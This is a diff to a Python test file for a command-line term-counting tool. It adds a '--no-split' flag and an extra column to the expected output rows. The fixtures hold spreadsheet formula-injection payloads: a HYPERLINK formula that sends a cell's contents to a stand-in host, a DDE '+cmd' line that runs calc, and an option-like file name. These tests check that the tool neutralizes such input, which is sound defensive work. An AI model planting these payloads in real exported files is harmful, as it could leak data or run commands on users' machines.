@@ -52,7 +52,7 @@ def invoke(*args):
 
 def test_xlsx_by_suffix_holds_every_table_as_a_sheet(vocab_file, tmp_path):
     out = tmp_path / "counts.xlsx"
-    result = invoke("count", SEED_004, "-v", vocab_file, "-o", out, "-q")
+    result = invoke("count", SEED_004, "-v", vocab_file, "-o", out, "-q", "--no-split")  # the file whole
     assert result.exit_code == 0, result.stderr
     assert result.stdout == ""
     book = openpyxl.load_workbook(out)
@@ -67,7 +67,7 @@ def test_xlsx_by_suffix_holds_every_table_as_a_sheet(vocab_file, tmp_path):
 
 
 def test_parquet_by_suffix_holds_frequencies_and_by_directory_every_table(vocab_file, tmp_path):
-    result = invoke("count", SEED_004, "-v", vocab_file, "-o", tmp_path / "counts.parquet", "-q")
+    result = invoke("count", SEED_004, "-v", vocab_file, "-o", tmp_path / "counts.parquet", "-q", "--no-split")
     assert result.exit_code == 0, result.stderr
     frame = pd.read_parquet(tmp_path / "counts.parquet")
     assert list(frame.columns) == ["doc_id", "term", "category", "count", "per_10k_chars"]
@@ -130,7 +130,7 @@ def test_hostile_metadata_and_file_names_are_neutralized_in_csv(hostile):
 
 def test_raw_keeps_the_text_as_it_is(hostile):
     result = invoke("count", "--what", "documents", "-f", "tsv", "-q", "--raw", "--", "-evil.txt")
-    assert result.stdout.splitlines()[1] == "-evil.txt\t\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"\t\t+cmd|'/c calc'!A0\t13\t3"
+    assert result.stdout.splitlines()[1] == "-evil.txt\t\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"\t\t\t+cmd|'/c calc'!A0\t13\t3"
 
 
 def test_hostile_cells_are_neutralized_in_xlsx_unless_raw(hostile):
@@ -138,7 +138,7 @@ def test_hostile_cells_are_neutralized_in_xlsx_unless_raw(hostile):
     assert result.exit_code == 0, result.stderr
     documents = openpyxl.load_workbook("safe.xlsx")["documents"]
     assert [cell.value for cell in documents[2]] == [
-        "'-evil.txt", '\'=HYPERLINK("http://x.example/?"&A1,"点击")', None, "'+cmd|'/c calc'!A0", 13, 3,
+        "'-evil.txt", '\'=HYPERLINK("http://x.example/?"&A1,"点击")', None, None, "'+cmd|'/c calc'!A0", 13, 3,
     ]
     assert openpyxl.load_workbook("safe.xlsx")["frequencies"]["A2"].value == "'-evil.txt"
     invoke("count", "--what", "documents", "-o", "raw.xlsx", "-q", "--raw", "--", "-evil.txt")
